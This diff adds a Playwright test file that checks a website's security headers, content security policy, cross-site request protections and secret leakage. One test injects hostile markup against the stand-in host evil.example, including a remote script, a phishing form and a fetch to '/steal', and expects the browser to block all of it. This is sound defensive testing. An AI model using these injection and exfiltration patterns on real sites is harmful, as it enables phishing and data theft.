@@ -1,0 +1,202 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { readdir } from 'node:fs/promises'
+import { join } from 'node:path'
+import { leakedInto, leakedIntoFiles } from '../../scripts/stack/leaks.ts'
+import { expect, test } from './fixtures.ts'
+
+const PAGES = [
+  '/',
+  '/resources',
+  '/resources/ai-roi-calculator',
+  '/resources/nope',
+  '/privacy',
+  '/studiofoo',
+  '/api',
+  '/api/nothing',
+  '/nothing/here',
+]
+
+/** Another site: its host is not the page's, so that the browser keeps the two apart. */
+async function otherSite(html: string): Promise<{ url: string; server: Server }> {
+  const server = createServer((_, response) => {
+    response.setHeader('Content-Type', 'text/html')
+    response.end(html)
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
+}
+
+test('every answer carries its headers', async ({ stack }) => {
+  const ask = (path: string, headers: Record<string, string> = {}) =>
+    fetch(stack.url + path, { headers, redirect: 'manual' })
+  for (const path of [
+    ...PAGES,
+    '/studio',
+    '/api/leads',
+    '/api/health',
+    '/robots.txt',
+    '/icon.svg',
+  ]) {
+    const { headers } = await ask(path)
+    const policy = headers.get('content-security-policy') ?? ''
+    expect(policy, path).toMatch(/default-src '(self|none)'/)
+    expect(policy, path).toMatch(/frame-ancestors '(self|none)'/)
+    expect(headers.get('x-content-type-options'), path).toBe('nosniff')
+    expect(headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin')
+    expect(headers.get('permissions-policy'), path).toContain('camera=()')
+    expect(headers.get('cross-origin-opener-policy'), path).toBe('same-origin-allow-popups')
+    expect(headers.get('cross-origin-resource-policy'), path).toBe('same-origin')
+    expect(headers.get('strict-transport-security'), path).toBeNull()
+    expect(headers.get('x-powered-by'), path).toBeNull()
+  }
+  const policyOf = async (path: string) => (await ask(path)).headers.get('content-security-policy')
+  for (const path of PAGES) {
+    expect(await policyOf(path), path).toMatch(
+      /script-src 'self' 'unsafe-inline'; script-src-attr 'none'/,
+    )
+    expect(await policyOf(path), path).not.toMatch(
+      /unsafe-eval|style-src [^;]*'unsafe-inline'; style/,
+    )
+  }
+  const secure = await ask('/', { 'X-Forwarded-Proto': 'https' })
+  expect(secure.headers.get('strict-transport-security')).toBe('max-age=31536000')
+  const built = await readdir(join(stack.folder, 'site', 'server', 'app'))
+  const card = built.find((name) => /^opengraph-image-\w+\.body$/.test(name)) ?? ''
+  const shown = await ask(`/${card.replace('.body', '')}`)
+  expect([shown.status, shown.headers.get('cross-origin-resource-policy')]).toEqual([
+    200,
+    'cross-origin',
+  ])
+})
+
+test('a page runs, loads and sends nothing that its policy does not name, and such a try fails a test', async ({
+  page,
+  expected,
+}) => {
+  expected.problems.push(/Content Security Policy|csp$|status of 404/)
+  expected.hosts.push('evil.example')
+  const told: string[] = []
+  page.on('console', (message) => message.type() === 'error' && told.push(message.text()))
+  await page.goto('/')
+  await page.evaluate(() => {
+    const seen: string[] = []
+    Object.assign(window, { seen })
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      seen.push(effectiveDirective),
+    )
+    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
+    add(
+      '<img src="https://evil.example/a.png"><img src="/nothing.png" onerror="window.hacked = 1">',
+    )
+    add('<style>body { display: none }</style><object data="https://evil.example/a"></object>')
+    add('<form action="https://evil.example/" id="phish" method="post"><input name="email"></form>')
+    const base = document.createElement('base')
+    base.href = 'https://evil.example/'
+    document.head.append(base)
+    const script = document.createElement('script')
+    script.src = 'https://evil.example/a.js'
+    document.head.append(script)
+    fetch('https://evil.example/steal').catch(() => {})
+    const phish = document.getElementById('phish')
+    if (phish instanceof HTMLFormElement) phish.submit()
+    const evil = document.createElement('script')
+    // Later: while the browser is remote-controlled it lets evaluated code pass.
+    evil.textContent = 'setTimeout(() => { try { eval("window.hacked = 2") } catch {} })'
+    document.head.append(evil)
+  })
+  const seen = () => page.evaluate<string[]>(() => Reflect.get(window, 'seen'))
+  await expect
+    .poll(async () => new Set(await seen()))
+    .toEqual(
+      new Set([
+        'img-src',
+        'script-src-attr',
+        'style-src-elem',
+        'object-src',
+        'base-uri',
+        'script-src-elem',
+        'connect-src',
+        'form-action',
+        'script-src',
+      ]),
+    )
+  const done = await page.evaluate(() => [
+    Reflect.get(window, 'hacked'),
+    document.body.checkVisibility(),
+  ])
+  expect(done).toEqual([undefined, true])
+  expect(told.filter((line) => /Content Security Policy/.test(line)).length).toBeGreaterThan(8)
+})
+
+test("another site can't frame a page, read it, or post from a visitor's browser", async ({
+  page,
+  stack,
+  expected,
+}) => {
+  expected.problems.push(
+    /frame-ancestors|ERR_BLOCKED_BY_RESPONSE|ERR_FAILED|CORS|status of 40[134]/,
+  )
+  const email = 'dragged@example.com'
+  const { url, server } = await otherSite(`<!doctype html>
+    <iframe name="frame" src="${stack.url}/"></iframe>
+    <iframe name="answer"></iframe>
+    <form id="form" method="post" target="answer" action="${stack.url}/api/leads">
+      <input name="email" value="${email}"><input name="source" value="resource_ai-roi-calculator">
+    </form>`)
+  try {
+    await page.goto(url)
+    const sent = page.waitForResponse(/api\/leads/)
+    await page.evaluate(() => {
+      const form = document.getElementById('form')
+      if (form instanceof HTMLFormElement) form.submit()
+    })
+    expect((await sent).status()).toBe(403)
+    const tried = await page.evaluate(
+      async ([site, body]) => {
+        const outcome = (promise: Promise<Response>) =>
+          promise.then(
+            ({ type }) => type,
+            () => 'refused',
+          )
+        const simple = { method: 'POST', mode: 'no-cors', body } as const
+        const json = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body }
+        return Promise.all([
+          outcome(fetch(`${site}/api/leads`, simple)),
+          outcome(fetch(`${site}/api/leads`, json)),
+          outcome(fetch(`${site}/api/reports/roi`, json)),
+          outcome(fetch(`${site}/`)),
+          outcome(fetch(`${site}/`, { mode: 'no-cors' })),
+        ])
+      },
+      [stack.url, JSON.stringify({ email, source: 'resource_ai-roi-calculator' })] as const,
+    )
+    // What comes back in the last two is kept from the page by the missing CORS header and by CORP.
+    expect(tried).toEqual(['refused', 'refused', 'refused', 'refused', 'refused'])
+    const framed = page.frames().find((frame) => frame.name() === 'frame')
+    expect(await framed?.content()).not.toContain('Northwright')
+    expect(await stack.rows('select 1 from email_submissions where email = $1', [email])).toEqual(
+      [],
+    )
+  } finally {
+    server.close()
+  }
+})
+
+test('nothing that a browser is sent holds a secret or the name of one', async ({ stack }) => {
+  expect(leakedInto(`a ${stack.env.CRON_SECRET}, RESEND_API_KEY`, stack.env)).toEqual([
+    'CRON_SECRET',
+    'RESEND_API_KEY',
+  ])
+  const files = join(stack.folder, 'site', 'static')
+  expect(await leakedIntoFiles(files, stack.env)).toEqual([])
+  const names = await readdir(files, { recursive: true })
+  expect(names.filter((name) => name.endsWith('.map'))).toEqual([])
+  for (const path of [...PAGES, '/studio', '/resources/automation-checklist']) {
+    for (const RSC of ['', '1']) {
+      const text = await (await fetch(stack.url + path, { headers: RSC ? { RSC } : {} })).text()
+      expect(leakedInto(text, stack.env), path).toEqual([])
+      expect(text, path).not.toMatch(/postgres(ql)?:\/\//)
+    }
+  }
+})
